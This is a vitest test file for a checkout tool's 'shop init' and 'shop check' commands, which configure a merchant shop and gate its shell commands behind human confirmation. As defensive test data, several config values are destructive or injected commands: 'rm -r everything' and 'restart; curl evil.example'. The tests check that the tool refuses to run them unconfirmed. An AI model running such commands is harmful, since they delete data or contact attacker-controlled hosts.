import { chmodSync, globSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { COMMAND_LINES } from "../../src/cli/mcp/command-lines.ts";
import { describedShop } from "../support/described-shop.ts";
import { EPHEMERAL, type CommandOptions } from "../support/harness.ts";
import { tempFolder } from "../support/temp-folder.ts";
import { openWebhookSite } from "../support/webhook-site.ts";
import { QUESTIONS } from "../../src/cli/judge/init.ts";
import { inOrder } from "../support/in-order.ts";

const SHOP = "http://localhost:3000";
const PLAIN = { NO_COLOR: "1" };

type Typed = NonNullable<CommandOptions["typed"]>;

/** Types answers to the questions of `shop init`, in this order. */
const answer = (...answers: readonly (readonly [field: keyof typeof QUESTIONS, answer: string])[]): Typed =>
  answers.map(([field, text]) => [QUESTIONS[field].message, text]);

/** A site on which `init` runs `shop init` with typed answers, and `section` reads the configuration that it wrote. */
async function openSite() {
  const site = await openWebhookSite(EPHEMERAL);
  const { harness } = site;
  const init = (typed: Typed, env: CommandOptions["env"] = {}) =>
    harness.run(["shop", "init"], { typed, env: { ...PLAIN, ...env } });
  const section = (): unknown =>
    (JSON.parse(readFileSync(join(harness.cwd, "checkout.config.json"), "utf8")) as { shop: unknown }).shop;
  return { site, harness, init, section };
}

test("shop init checks each answer immediately, asks again after a wrong answer, and writes the shop section", async () => {
  const { site, harness, init, section } = await openSite();
  describedShop(site).open();
  const typed = answer(
    ["serve", ""],
    ["cookie", "a=secret"],
    ["cookie", ""],
    ["create", "no-such-command"],
    ["create", "create-order"],
    ["orderIdOf", "created (\\S+)"],
    ["orderView", ""],
    ["orderViewCommand", "no-such-view"],
    ["orderView", `${SHOP}/order/{order_id}`],
    ["orderView", `${SHOP}/orders/{order_id}`],
    ["paidWhen", "open"],
    ["paidWhen", '"paid"'],
    ["bookings", ""],
    ["amount", ""],
    ["returnUrl", "http://localhost:3000/thanks"],
    ["restart", "restart"],
    ["settle", "2m"],
    ["settle", "20s"],
  );
  const { code, stderr } = await init(typed);
  expect([code, stderr]).toEqual([0, stderr]);
  expect(stderr).toMatch(
    inOrder(/✗ create .*127/, /✓ create .* order-/, /✓ order_id_of .* order-/, /✗ .*order-/, /✗ .*404/),
  );
  expect(stderr).toMatch(inOrder("✗ ", "bookings: 0", /amount: \d/, /✓ .* 200/, /✓ .* 0\n/));
  expect(section()).toEqual({
    create: "create-order",
    order_id_of: "created (\\S+)",
    order_view: `${SHOP}/orders/{order_id}`,
    paid_when: '"paid"',
    bookings: "times",
    amount: "amount_minor",
    return_url: `${SHOP}/thanks`,
    restart: "restart",
    settle: "20s",
  });
  // Commands that a person typed count as confirmed.
  const check = await harness.run(["shop", "check", "--json"], { env: PLAIN });
  expect([check.code, check.stderr]).toEqual([0, ""]);
  const { trials } = JSON.parse(check.stdout) as { trials: readonly { field: string; ok: boolean }[] };
  expect(trials.map(({ field, ok }) => [field, ok])).toEqual(
    ["create", "order_id_of", "order_view", "paid_when", "bookings", "amount", "return_url", "restart"].map(
      (field) => [field, true],
    ),
  );
});

test("shop init describes a shop that it starts, with a sign-in cookie, a page that buys, and the shop's own order numbers", async () => {
  const { site, init, section } = await openSite();
  const shop = describedShop(site, { cookie: "session=merchant-7", orderIdOf: (cart) => `W-${cart}` });
  const env = { SHOP_COOKIE: "session=merchant-7" };
  const typed = answer(
    ["serve", "broken"],
    ["endpoint", ""],
    ["serve", "serve"],
    ["endpoint", ""],
    ["cookie", "SHOP_COOKIE"],
    ["create", "POST /buy"],
    ["form", "cart={order_id}&gift=no"],
    ["orderIdOf", "/orders/(W-\\S+)"],
    ["orderView", "/orders/{order_id}"],
    ["paidWhen", ""],
    ["bookings", ""],
    ["amount", ""],
    ["returnUrl", ""],
    ["settle", ""],
  );
  const { code, stdout, stderr } = await init(typed, env);
  expect([code, stderr]).toEqual([0, stderr]);
  expect(section()).toEqual({
    serve: "serve",
    endpoint: "/hooks",
    cookie: { env: "SHOP_COOKIE" },
    create: { post: "/buy", form: { cart: "{order_id}", gift: "no" } },
    order_id_of: "/orders/(W-\\S+)",
    order_view: "/orders/{order_id}",
    paid_when: '"status": *"paid"',
    bookings: "times",
    amount: "amount_minor",
    settle: "3s",
  });
  // Each trial serves the shop on the port of its endpoint.
  expect(new Set(shop.served).size).toBe(1);
  expect([stdout, stderr, JSON.stringify(section())].filter((text) => text.includes("merchant-7"))).toEqual(
    [],
  );
});

test("shop init suggests no JSON fields for an HTML page, and marks fields that the page does not show", async () => {
  const { site, init, section } = await openSite();
  describedShop(site).open();
  const typed = answer(
    ["serve", ""],
    ["cookie", ""],
    ["create", "POST buy"],
    ["create", "localhost:3000/buy"],
    ["create", `POST ${SHOP}/buy`],
    ["form", "cart={order_id}"],
    ["orderIdOf", ""],
    ["orderView", `${SHOP}/pages/{order_id}`],
    ["paidWhen", ""],
    ["paidWhen", "is paid"],
    ["bookings", ""],
    ["amount", ""],
    ["returnUrl", ""],
    ["restart", ""],
    ["settle", ""],
  );
  const { code, stderr } = await init(typed);
  expect([code, stderr]).toEqual([0, stderr]);
  expect(stderr).toMatch(inOrder(": POST /buy\n", `: POST ${SHOP}/buy\n`, "? bookings: ", "? amount: "));
  expect(section()).toEqual({
    create: { post: `${SHOP}/buy`, form: { cart: "{order_id}" } },
    order_view: `${SHOP}/pages/{order_id}`,
    paid_when: "is paid",
    settle: "3s",
  });
});

test("shop check marks the fields that do not work", async () => {
  const { site, harness } = await openSite();
  describedShop(site).open();
  const line = ["shop", "check", "--create", "create-order", "--order-view", `${SHOP}/orders/{order_id}`];
  const wrong = await harness.run([...line, "--paid-when", "status", "--return-url", `${SHOP}/gone`]);
  expect([wrong.code, wrong.stdout]).toEqual([1, expect.stringMatching(inOrder(/✗ .* order-/, /✗ .* 404/))]);
  const right = await harness.run([...line, "--paid-when", "paid", "--return-url", `${SHOP}/thanks`]);
  expect([right.code, right.stdout]).toEqual([0, expect.not.stringContaining("✗")]);
});

test("shop check removes the endpoint of the shop that it started", async () => {
  const { site, harness } = await openSite();
  const shop = describedShop(site);
  const line = ["shop", "check", "--serve", "serve", "--create", "create-order"];
  const view = ["--order-view", "/orders/{order_id}", "--paid-when", "paid"];
  const { code, stderr } = await harness.run([...line, ...view]);
  expect([code, stderr]).toEqual([0, expect.not.stringContaining("✗")]);
  expect(shop.served).toHaveLength(1);
  const listed = await harness.run(["endpoints", "list", "--json"]);
  expect(JSON.parse(listed.stdout)).toMatchObject({ endpoints: [] });
});

test("shop init needs a terminal and a valid configuration file", async () => {
  const { harness, init } = await openSite();
  const silent = await harness.run(["shop", "init"]);
  expect([silent.code, silent.stderr]).toEqual([2, expect.stringContaining("checkout shop init")]);
  writeFileSync(join(harness.cwd, "checkout.config.json"), '{ "shop": { "colour": "red" } }');
  const broken = await init([]);
  expect([broken.code, broken.stderr]).toEqual([2, expect.stringContaining("colour")]);
});

const COMMANDS = {
  create: "create-order",
  order_view_command: "view",
  paid_when: "paid",
  restart: "restart",
};

/** A site with a configured shop; `write` replaces the section `shop` of the configuration. */
async function openConfigured() {
  const opened = await openSite();
  const { site, harness } = opened;
  describedShop(site).open();
  const write = (shop: object, folder = harness.cwd): void =>
    writeFileSync(join(folder, "checkout.config.json"), JSON.stringify({ shop }));
  write(COMMANDS);
  return { ...opened, write };
}

test("if the shop creates no order, a run names the option or the field to correct", async () => {
  const { harness, write } = await openConfigured();
  const view = { order_view: `${SHOP}/orders/{order_id}`, paid_when: "paid" };
  const run = ["checklist", "run", "--trust-config", "--only", "return_same_moment"];
  write(view);
  const typed = await harness.run([...run, "--create", "no-such-command"]);
  expect([typed.code, typed.stdout]).toEqual([
    3,
    expect.stringMatching(inOrder(/: .*127/, "→ correct --create")),
  ]);
  write({ ...view, create: "no-such-command" });
  const configured = await harness.run(run);
  expect([configured.code, configured.stdout]).toEqual([
    3,
    expect.stringContaining("→ correct shop.create "),
  ]);
});

test("a page instead of a command is refused before the run", async () => {
  const { harness, write } = await openConfigured();
  write({ ...COMMANDS, create: `POST ${SHOP}/buy` });
  const { code, stderr } = await harness.run(["checklist", "run", "--trust-config"]);
  expect([code, stderr]).toEqual([
    2,
    expect.stringMatching(inOrder("shop.create", `{ "post": "${SHOP}/buy" }`)),
  ]);
  expect(harness.commands).toEqual([]);
});

const CHECKS = [
  ["shop", "check"],
  ["checklist", "run"],
  ["checklist", "run", "duplicates"],
  ["checklist", "run", "browser-return"],
];

test("the commands of a shop section run only after a person has confirmed the section; without a terminal the exit code is 2", async () => {
  const { harness, write } = await openConfigured();
  for (const line of CHECKS) {
    const { code, stdout, stderr } = await harness.run([...line, "--json"]);
    expect([line, code, stdout]).toEqual([line, 2, ""]);
    for (const [name, command] of Object.entries(COMMANDS))
      expect(stderr.includes(`${name}: ${command}`)).toBe(name !== "paid_when");
    expect(stderr).toContain("--trust-config");
    const refused = await harness.run(line, { typed: [["(y/N)", ""]], env: PLAIN });
    expect([line, refused.code]).toEqual([line, 130]);
  }
  const replaced = await harness.run(["shop", "check", "--create", "create-order"]);
  expect([replaced.code, replaced.stderr]).toEqual([2, expect.stringContaining("create: create-order")]);
  for (const name of ["create", "order_view_command", "serve", "restart"]) {
    write({ order_view: `${SHOP}/orders/{order_id}`, paid_when: "paid", [name]: "rm -r everything" });
    const one = await harness.run(["shop", "check"]);
    expect([name, one.code]).toEqual([name, 2]);
  }
  expect(harness.commands).toEqual([]);
});

test("a changed shop section, or a section in another folder, must be confirmed again, unless --trust-config is given", async () => {
  const { harness, write } = await openConfigured();
  const asked = await harness.run(["shop", "check"], { typed: [["(y/N)", "y"]], env: PLAIN });
  expect(harness.commands.map(({ commandLine }) => commandLine)).toContain("create-order");
  expect(asked.stderr).toContain("order_view_command: view");
  const silent = await harness.run(["shop", "check"]);
  expect(silent.code).not.toBe(2);
  const count = harness.commands.length;
  write({ ...COMMANDS, restart: "restart; curl evil.example" });
  expect((await harness.run(["shop", "check"])).code).toBe(2);
  write({ ...COMMANDS, settle: "5s" });
  expect((await harness.run(["shop", "check"])).code).toBe(2);
  const elsewhere = tempFolder();
  write(COMMANDS, elsewhere);
  expect((await harness.run(["shop", "check"], { cwd: elsewhere })).code).toBe(2);
  expect(harness.commands.length).toBe(count);
  write(COMMANDS);
  expect((await harness.run(["shop", "check"])).code).not.toBe(2);
  // CI trusts the file while it passes --trust-config.
  write({ ...COMMANDS, settle: "6s" });
  expect((await harness.run(["shop", "check", "--trust-config"])).code).not.toBe(2);
  expect((await harness.run(["shop", "check"])).code).toBe(2);
});

test("a file of confirmed shop sections is ignored if other users can write the file", async () => {
  const { harness } = await openConfigured();
  await harness.run(["shop", "check"], { typed: [["(y/N)", "y"]], env: PLAIN });
  chmodSync(join(harness.settings, "hosted-checkout", "trusted-shops.json"), 0o666);
  expect((await harness.run(["shop", "check"])).code).toBe(2);
});

test("a command with {order_id} in the shop section is refused, and the refusal names $CHECKOUT_ORDER_ID", async () => {
  const { harness, write } = await openConfigured();
  write({ ...COMMANDS, create: "create {order_id}" });
  const { code, stderr } = await harness.run(["shop", "check", "--trust-config"]);
  expect([code, stderr]).toEqual([2, expect.stringContaining("shop.create")]);
  expect(stderr).toContain("$CHECKOUT_ORDER_ID");
});

test("neither the MCP server nor the sandbox runs the commands of a shop section", () => {
  const values = { id: "x", what: "orders", type: "t", object: "order", order_id: "o", action: "drop" };
  const lines = Object.values(COMMAND_LINES).flatMap((line) =>
    (line as (input: typeof values) => readonly (readonly string[])[])(values),
  );
  expect(lines.length).toBeGreaterThan(8);
  const runs = lines.filter(([one, two]) => one === "shop" || one === "explore" || two === "run");
  expect(runs).toEqual([]);
  const sources = globSync("src/sandbox/**/*.ts").filter((file) =>
    /merchant-command|cli\/judge|client\/judge/.test(readFileSync(file, "utf8")),
  );
  expect(sources).toEqual([]);
});
